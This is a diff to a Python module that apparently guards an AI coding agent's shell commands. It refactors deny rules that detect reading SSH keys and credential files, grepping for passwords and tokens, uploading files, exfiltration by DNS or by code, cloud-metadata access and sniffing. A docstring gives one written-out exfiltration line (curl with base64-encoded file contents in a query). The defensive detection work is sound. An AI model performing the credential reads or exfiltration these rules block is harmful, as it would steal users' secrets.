@@ -4,13 +4,15 @@ from __future__ import annotations
 
 import re
 
-from ralph.guard import effects, paths
-from ralph.guard.expansion import is_secret_name
-from ralph.guard.languages import language
-from ralph.guard.model import Command, Place, Rule
+from ralph.guard.model import DenyRule
 from ralph.guard.patterns import is_harmless
-from ralph.guard.running import values_of
-from ralph.guard.words import MARKS, SECRET, UNKNOWN, UNSET, Word, words_of
+from ralph.shell import arguments, effects, paths
+from ralph.shell.arguments import values_of
+from ralph.shell.code.languages import language
+from ralph.shell.command import SimpleCommand
+from ralph.shell.context import ShellContext
+from ralph.shell.variables import is_secret_name
+from ralph.shell.words import MARKS, SECRET, UNKNOWN, UNSET, Word, words_of
 
 CATEGORY = "secrets"
 _SENDERS = words_of(
@@ -37,57 +39,57 @@ _NETWORK_CODE = r"(?i)requests|urllib|http\.client|httpx|aiohttp|socket|fetch\(|
 _SECRET_CODE = r"os\.environ\b(?!\[|\.get)|process\.env\b(?!\.)|\bENV\b(?!\[)|dict\(os\.environ|\.env['\"]|%ENV|\$_ENV|getenv\(\)"
 
 
-def _reads(command: Command, place: Place) -> bool:
+def _reads(command: SimpleCommand, context: ShellContext) -> bool:
     """Secrets of the user, whatever for."""
     for word in effects.read(command):
-        path = paths.resolve(word, command.directory, place)
+        path = paths.resolve(word, command.directory, context)
         if path is None or _is_public(command, path):
             continue
-        if _is_secret(path, word, place) or (
+        if _is_secret(path, word, context) or (
             paths.is_project_secret(path)
-            and paths.zone(path, place) in (paths.OUTSIDE, paths.SYSTEM, paths.HOME)
+            and paths.zone(path, context) in (paths.OUTSIDE, paths.SYSTEM, paths.HOME)
         ):
             return True
     return False
 
 
 _KEY_NAMES = ("id_rsa", "id_ed25519", "id_ecdsa", ".netrc", "credentials", ".git-credentials", ".pgpass")
+_FAR = (paths.HOME, paths.ROOT, paths.ABOVE, paths.OUTSIDE, paths.STARTUP)
 _SEARCHED = r"(?i)passw|secret|token|api.?key|private.?key|BEGIN|AKIA|ghp_|sk-|credential"
 
 
-def _searches(command: Command, place: Place) -> bool:
+def _searches(command: SimpleCommand, context: ShellContext) -> bool:
     """For keys and passwords, in all that the user has."""
     if command.program not in ("grep", "egrep", "fgrep", "rg", "ag", "ack"):
         return False
-    if not effects.is_recursive(command) and command.program not in ("rg", "ag", "ack"):
+    if not arguments.is_recursive(command) and command.program not in ("rg", "ag", "ack"):
         return False
-    names = effects.operands(command, "-A -B -C -m -g --include")[1:]
-    zones = [paths.zone(paths.resolve(name, command.directory, place), place) for name in names]
-    far = (paths.HOME, paths.ROOT, paths.ABOVE, paths.OUTSIDE, paths.STARTUP)
-    return any(zone in far for zone in zones) and bool(re.search(_SEARCHED, " ".join(command.args)))
+    names = arguments.operands(command, "-A -B -C -m -g --include")[1:]
+    zones = [paths.zone_of(name, command.directory, context) for name in names]
+    return not {*zones}.isdisjoint(_FAR) and bool(re.search(_SEARCHED, " ".join(command.args)))
 
 
-def _is_secret(path: str, word: Word, place: Place) -> bool:
+def _is_secret(path: str, word: Word, context: ShellContext) -> bool:
     if word.glob:
         from fnmatch import fnmatchcase
 
         path = paths.contents(path, word)
-        if paths.is_secret(path.rstrip("*?[]"), place):
+        if paths.is_secret(path.rstrip("*?[]"), context):
             return True
         if any(part in path for part in ("/.ssh/id", "/.ssh/*", "/.aws/*", "/.aws/c")):
             return True
         last = path.rpartition("/")[2]
-        is_far = paths.zone(path, place) not in (paths.INSIDE, paths.TEMP, paths.REPOSITORY, paths.CACHE)
+        is_far = paths.zone(path, context) not in (paths.INSIDE, paths.TEMP, paths.REPOSITORY, paths.CACHE)
         return is_far and len(last) > 2 and any(fnmatchcase(name, last) for name in _KEY_NAMES)
-    return paths.is_secret(path, place)
+    return paths.is_secret(path, context)
 
 
-def _is_public(command: Command, path: str) -> bool:
+def _is_public(command: SimpleCommand, path: str) -> bool:
     """`mkdir -p ~/.ssh`, `ls ~/.ssh`: no content is read."""
     return command.program in ("ls", "stat", "test", "mkdir", "touch")
 
 
-def _prints(command: Command, place: Place) -> bool:
+def _prints(command: SimpleCommand, context: ShellContext) -> bool:
     """A secret variable goes to the screen, and with it into the transcript."""
     if command.piped or any(operator.startswith((">", "&>")) for operator, _ in command.redirects):
         return False
@@ -118,7 +120,7 @@ def _prints(command: Command, place: Place) -> bool:
     return command.program in ("echo", "printf", "cat") and any(SECRET in word for word in command.args)
 
 
-def _is_local(command: Command) -> bool:
+def _is_local(command: SimpleCommand) -> bool:
     hosts = [word for word in command.args if "://" in word or any(local in word for local in _LOCAL)]
     return bool(hosts) and all(
         any(f"{mark}{local}" in word or word.startswith(local) for local in _LOCAL for mark in ("//", "@"))
@@ -126,7 +128,7 @@ def _is_local(command: Command) -> bool:
     )
 
 
-def _sends_secret(command: Command, place: Place) -> bool:
+def _sends_secret(command: SimpleCommand, context: ShellContext) -> bool:
     """A secret goes to a program that talks to the network."""
     if command.program not in _SENDERS or is_harmless(command):
         return False
@@ -142,10 +144,10 @@ def _sends_secret(command: Command, place: Place) -> bool:
     for number, word in enumerate(command.args):
         if SECRET in word and not _is_header(command, number):
             return True
-    return any(_is_secret_file(word, command, place) for word in _files(command))
+    return any(_is_secret_file(word, command, context) for word in _files(command))
 
 
-def _is_header(command: Command, number: int) -> bool:
+def _is_header(command: SimpleCommand, number: int) -> bool:
     """A token in a header, as user or as an option of a cloud's own tool is how it is meant to be used."""
     before = command.args[number - 1] if number else Word("")
     word = command.args[number]
@@ -159,7 +161,7 @@ def _is_header(command: Command, number: int) -> bool:
     return command.program in ("aws", "gh", "gcloud", "az", "openssl", "ssh", "slack")
 
 
-def _files(command: Command) -> list[Word]:
+def _files(command: SimpleCommand) -> list[Word]:
     """The files that it sends."""
     found = [
         Word(value.replace("=<", "@").partition("@")[2].partition(";")[0])
@@ -175,11 +177,11 @@ def _files(command: Command) -> list[Word]:
     if command.program in ("mail", "mailx", "mutt", "swaks"):
         found += values_of(command.args, "-a -A")
     if command.program in words_of("scp rsync sftp aws gsutil rclone s3cmd azcopy mc croc wormhole gcloud"):
-        names = effects.operands(command, "-i -P -o -F -e --rsh --profile --region")
+        names = arguments.operands(command, "-i -P -o -F -e --rsh --profile --region")
         if any(_is_remote(name) for name in names[1:]) or command.program in ("croc", "wormhole"):
             found += [name for name in names if not _is_remote(name)]
     if command.program == "gh" and command.args[:1] == ["gist"]:
-        found += effects.operands(command)[2:]
+        found += arguments.operands(command)[2:]
     return found
 
 
@@ -187,18 +189,18 @@ def _is_remote(word: str) -> bool:
     return "://" in word or (":" in word and not word.startswith(("/", ".", "~")))
 
 
-def _is_secret_file(word: Word, command: Command, place: Place) -> bool:
-    path = paths.resolve(word, command.directory, place)
+def _is_secret_file(word: Word, command: SimpleCommand, context: ShellContext) -> bool:
+    path = paths.resolve(word, command.directory, context)
     if path is None:
         return SECRET in word
     return (
-        paths.is_secret(path, place)
+        paths.is_secret(path, context)
         or paths.is_project_secret(path)
-        or paths.zone(path, place) in (paths.HOME, paths.ROOT, paths.ABOVE)
+        or paths.zone(path, context) in (paths.HOME, paths.ROOT, paths.ABOVE)
     )
 
 
-def _uploads(command: Command, place: Place) -> bool:
+def _uploads(command: SimpleCommand, context: ShellContext) -> bool:
     """Files to a host that is not this one."""
     if command.program not in words_of("curl wget http https xh nc ncat netcat telnet scp rsync sftp"):
         return False
@@ -219,19 +221,8 @@ def _uploads(command: Command, place: Place) -> bool:
         command.upstream
     )
     if command.program in ("scp", "rsync"):
-        return any(
-            paths.zone(paths.resolve(word, command.directory, place), place)
-            in (
-                paths.HOME,
-                paths.ABOVE,
-                paths.ROOT,
-                paths.SYSTEM,
-                paths.OUTSIDE,
-                paths.STARTUP,
-                paths.REPOSITORY,
-            )
-            for word in _files(command)
-        )
+        zones = [paths.zone_of(word, command.directory, context) for word in _files(command)]
+        return not {*zones}.isdisjoint((*_FAR, paths.SYSTEM, paths.REPOSITORY))
     return bool(
         unseen
         and reads_stdin
@@ -242,7 +233,7 @@ def _uploads(command: Command, place: Place) -> bool:
     )
 
 
-def _drop(command: Command, place: Place) -> bool:
+def _drop(command: SimpleCommand, context: ShellContext) -> bool:
     """Sites where things are left for others."""
     if command.program not in _SENDERS:
         return False
@@ -261,21 +252,21 @@ def _drop(command: Command, place: Place) -> bool:
     )
 
 
-def _metadata(command: Command, place: Place) -> bool:
+def _metadata(command: SimpleCommand, context: ShellContext) -> bool:
     if command.program in ("echo", "printf", "grep", "rg", "git", "sed"):
         return False
     text = " ".join(command.args) + (command.code if language(command.program) else "")
     return any(host in text for host in _METADATA)
 
 
-def _lookup(command: Command, place: Place) -> bool:
+def _lookup(command: SimpleCommand, context: ShellContext) -> bool:
     """Data in the name that is looked up."""
     if command.program not in ("dig", "nslookup", "host", "ping"):
         return False
     return any((UNKNOWN in word or SECRET in word) and "." in word for word in command.args)
 
 
-def _code(command: Command, place: Place) -> bool:
+def _code(command: SimpleCommand, context: ShellContext) -> bool:
     return (
         bool(language(command.program))
         and bool(re.search(_NETWORK_CODE, command.code))
@@ -283,7 +274,7 @@ def _code(command: Command, place: Place) -> bool:
     )
 
 
-def _query(command: Command, place: Place) -> bool:
+def _query(command: SimpleCommand, context: ShellContext) -> bool:
     """The output of another command in an address: `curl https://x/?$(cat file | base64)`."""
     if command.program not in ("curl", "wget") or _is_local(command):
         return False
@@ -312,27 +303,27 @@ _SHOWN = "It shows a secret, which would end up in logs. Programs that need it f
 _SENT = "It sends secrets or files of the user away. Leave that to the user."
 
 RULES = (
-    Rule(
+    DenyRule(
         "read-secrets",
         CATEGORY,
         "These are the user's keys, passwords or history. Programs that need them find them by themselves.",
         _reads,
     ),
-    Rule("search-secrets", CATEGORY, _SHOWN, _searches),
-    Rule("print-secrets", CATEGORY, _SHOWN, _prints),
-    Rule("send-secrets", CATEGORY, _SENT, _sends_secret),
-    Rule("upload", CATEGORY, _SENT, _uploads),
-    Rule("drop-site", CATEGORY, _SENT, _drop),
-    Rule("send-output", CATEGORY, _SENT, _query),
-    Rule("dns-data", CATEGORY, _SENT, _lookup),
-    Rule("send-by-code", CATEGORY, _SENT, _code),
-    Rule(
+    DenyRule("search-secrets", CATEGORY, _SHOWN, _searches),
+    DenyRule("print-secrets", CATEGORY, _SHOWN, _prints),
+    DenyRule("send-secrets", CATEGORY, _SENT, _sends_secret),
+    DenyRule("upload", CATEGORY, _SENT, _uploads),
+    DenyRule("drop-site", CATEGORY, _SENT, _drop),
+    DenyRule("send-output", CATEGORY, _SENT, _query),
+    DenyRule("dns-data", CATEGORY, _SENT, _lookup),
+    DenyRule("send-by-code", CATEGORY, _SENT, _code),
+    DenyRule(
         "cloud-metadata",
         CATEGORY,
         "This address hands out the machine's credentials. Leave it alone.",
         _metadata,
     ),
-    Rule(
+    DenyRule(
         "show-secrets",
         CATEGORY,
         _SHOWN,
@@ -361,8 +352,8 @@ RULES = (
             "nmcli ~*password*|--show-secrets",
         ),
     ),
-    Rule("ssh-keys", CATEGORY, "It gives others access by a key. Leave that to the user.", "ssh-copy-id"),
-    Rule(
+    DenyRule("ssh-keys", CATEGORY, "It gives others access by a key. Leave that to the user.", "ssh-copy-id"),
+    DenyRule(
         "sniff",
         CATEGORY,
         "It listens to what others send or type. Leave that to the user.",
